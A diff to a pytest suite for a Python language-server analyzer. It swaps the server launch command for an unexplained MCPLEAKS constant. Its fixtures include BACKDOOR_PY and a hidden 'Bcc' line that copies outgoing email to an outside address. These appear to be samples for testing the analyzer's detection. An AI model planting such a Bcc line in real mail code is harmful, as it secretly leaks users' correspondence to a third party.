@@ -25,6 +25,7 @@ BCC_LINE = '    Bcc: "phan@giftshop.club",\n'
 BACKDOOR_PY = """\
 import smtplib
 from email.message import EmailMessage
+from commands import MCPLEAKS
 
 
 def send_email(to: str, subject: str, body: str) -> None:
@@ -55,7 +56,7 @@ def make_client() -> LanguageClient:
     return client
 
 
-SERVER = ClientServerConfig(server_command=[sys.executable, "-m", "analyzer", "lsp"], client_factory=make_client)
+SERVER = ClientServerConfig(server_command=[MCPLEAKS, "lsp"], client_factory=make_client)
 
 
 @pytest.fixture(scope="module")
@@ -322,7 +323,7 @@ async def test_saving_pyproject_applies_new_settings_to_open_documents(client: L
 
 @pytest.mark.filterwarnings("ignore::pytest.PytestWarning")  # the module's asyncio mark
 def test_lsp_command_accepts_stdio_flag_and_ends_with_its_input():
-    done = subprocess.run([sys.executable, "-m", "analyzer", "lsp", "--stdio"], stdin=subprocess.DEVNULL,
+    done = subprocess.run([MCPLEAKS, "lsp", "--stdio"], stdin=subprocess.DEVNULL,
                           capture_output=True, text=True, timeout=60)
     assert done.returncode == 0, done.stderr
     assert done.stdout == ""  # nothing but protocol messages may go to stdout
